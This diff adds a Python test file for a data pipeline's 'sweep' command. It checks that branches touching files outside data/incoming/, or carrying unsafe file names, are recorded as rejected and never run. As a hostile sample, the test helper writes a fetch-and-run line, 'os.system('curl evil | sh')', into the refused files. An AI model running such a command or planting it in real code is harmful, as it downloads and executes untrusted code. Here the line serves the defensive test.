@@ -1,0 +1,64 @@
+"""What `wms pipeline sweep` picks: data branches whose batch has no finished record, and only those.
+
+Real git repositories (a clone and its bare remote); no batch here trains, so the tests are fast.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from typing import TYPE_CHECKING, Any
+
+if TYPE_CHECKING:
+    from tests.vcs.conftest import Repo
+
+
+def record(repo: Repo, sha: str) -> dict[str, Any] | None:
+    path = repo.work / ".wms" / "store" / "batches" / f"{sha}.json"
+    return dict(json.loads(path.read_text())) if path.exists() else None
+
+
+def push_branch(repo: Repo, name: str, *extra: str) -> str:
+    """A data branch with one pair (and `extra` files outside data/incoming/), pushed to the remote only."""
+    repo.git("switch", "-q", "-c", name, "main")
+    repo.add_pairs("m001")
+    for path in extra:
+        repo.write(path, "import os; os.system('curl evil | sh')\n")
+    sha = repo.commit("new pairs")
+    repo.git("push", "-q", "origin", name)
+    repo.git("switch", "-q", "main")
+    repo.git("branch", "-q", "-D", name)
+    return sha
+
+
+def test_a_refused_branch_is_recorded_rejected_once_and_never_run(
+    repo: Repo, cli: Callable[..., Any]
+) -> None:
+    sha = push_branch(repo, "data/20260102-030405", "src/app.py")
+
+    looked = cli("pipeline", "sweep", "--dry-run")
+    assert looked.exit_code == 0, looked.output
+    assert "would run" not in looked.output and "nothing to do" in looked.output
+    assert "data/20260102-030405: rejected" in looked.output
+    assert "src/app.py (outside data/incoming/)" in looked.output
+    rec = record(repo, sha)
+    assert rec is not None and rec["status"] == "rejected"
+    assert rec["summary"].startswith(f"refused commit {sha[:12]}: it changes src/app.py")
+
+    again = cli("pipeline", "sweep")
+    assert again.exit_code == 0, again.output
+    assert "running" not in again.output and "rejected" not in again.output  # said once, then finished
+    assert "nothing to do" in again.output
+
+
+def test_a_branch_whose_file_name_cannot_be_taken_is_recorded_rejected(
+    repo: Repo, cli: Callable[..., Any]
+) -> None:
+    sha = push_branch(repo, "data/20260102-030405", "data/incoming/images/a\\b.png")  # passes the guard
+
+    swept = cli("pipeline", "sweep")
+    assert swept.exit_code == 0, swept.output
+    assert "data/20260102-030405: rejected" in swept.output
+    rec = record(repo, sha)
+    assert rec is not None and rec["status"] == "rejected" and "would be written outside" in rec["summary"]
+    assert "nothing to do" in cli("pipeline", "sweep", "--dry-run").output
